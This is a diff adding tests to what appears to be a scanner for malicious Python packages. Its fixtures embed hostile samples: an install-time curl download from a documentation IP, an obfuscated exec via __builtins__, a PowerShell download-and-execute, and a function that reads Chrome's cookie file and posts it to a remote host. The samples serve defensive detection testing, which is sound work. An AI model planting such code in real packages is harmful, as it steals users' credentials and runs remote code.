@@ -77,3 +77,74 @@ def test_naming_pyarmor_markers_is_not_being_protected(tmp_path: Path) -> None:
     stub = ("from pyarmor_runtime_000000 import __pyarmor__\n"
             "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n")
     assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": stub}), "PW112") == Severity.HIGH
+
+
+PUBLISH = '''
+import os
+import sys
+from setuptools import setup
+
+command = sys.argv[-1]
+if command == "publish":
+    os.system("twine upload dist/*")
+    sys.exit()
+if "{word}" in sys.argv:
+    os.system("curl -s http://203.0.113.9/x -o /tmp/x")
+setup(name="demo", version="1.0")
+'''
+
+
+def test_setup_py_branches_pip_never_takes_are_not_install_time(tmp_path: Path) -> None:
+    # "publish" is a maintainer's shortcut; the second branch is still judged when pip can take it.
+    found = _scan(tmp_path / "a", PUBLISH.format(word="install"))
+    lines = {f.line for f in found if f.id == "PW101" and f.severity >= Severity.MEDIUM}
+    assert lines == {11}
+    found = _scan(tmp_path / "b", PUBLISH.format(word="release"))
+    assert not [f for f in found if f.id == "PW101" and f.severity >= Severity.MEDIUM]
+
+
+def test_custom_setup_command_is_not_install_time(tmp_path: Path) -> None:
+    setup_py = '''
+import subprocess
+from distutils.cmd import Command
+from setuptools import setup
+
+
+class Watch(Command):
+    def run(self):
+        subprocess.run(["node_modules/.bin/webpack-dev-server", "--open"])
+
+
+setup(name="demo", version="1.0", cmdclass={"%s": Watch})
+'''
+    assert _worst(_scan(tmp_path / "a", setup_py % "watch"), "PW101") is None
+    registered = _worst(_scan(tmp_path / "b", setup_py % "install"), "PW101")  # the same class run by pip install
+    assert registered is not None and registered >= Severity.MEDIUM
+
+
+def test_builtin_lookup_with_a_default_is_compat_code(tmp_path: Path) -> None:
+    compat = ("def extend(name):\n    base = getattr(__builtins__, name, OSError)\n    return type(name, (base,), {})\n"
+              "extend('PermissionError')\n")
+    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": compat}), "PW111") is None
+    hidden = "getattr(__builtins__, 'ex' + 'ec')('print(1)')\n"
+    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": hidden}), "PW111") == Severity.HIGH
+
+
+def test_powershell_invoke_expression_of_a_local_expression_is_not_a_dropper(tmp_path: Path) -> None:
+    body = ("import subprocess\n\ndef sid():\n    return subprocess.run(['powershell', '-Command', "
+            "\"Invoke-Expression '[Security.Principal.WindowsIdentity]::GetCurrent().user'\"])\n")
+    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": body}), "PW121") is None
+    fetch = body.replace("[Security.Principal.WindowsIdentity]::GetCurrent().user",
+                         "(New-Object Net.WebClient).DownloadString(\\'http://203.0.113.9/a\\')")
+    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": fetch}), "PW121") == Severity.HIGH
+
+
+def test_credential_read_and_network_in_different_functions_is_a_warning(tmp_path: Path) -> None:
+    apart = ("import os, requests\n\ndef cookies():\n    return open(os.path.expanduser("
+             "'~/.config/google-chrome/Default/Cookies'), 'rb').read()\n\n"
+             "def download(url):\n    return requests.get(url).content\n")
+    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": apart}), "PW131") == Severity.MEDIUM
+    together = ("import os, requests\n\ndef steal():\n    data = open(os.path.expanduser("
+                "'~/.config/google-chrome/Default/Cookies'), 'rb').read()\n"
+                "    requests.post('https://203.0.113.9/c', data=data)\n")
+    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": together}), "PW131") == Severity.HIGH
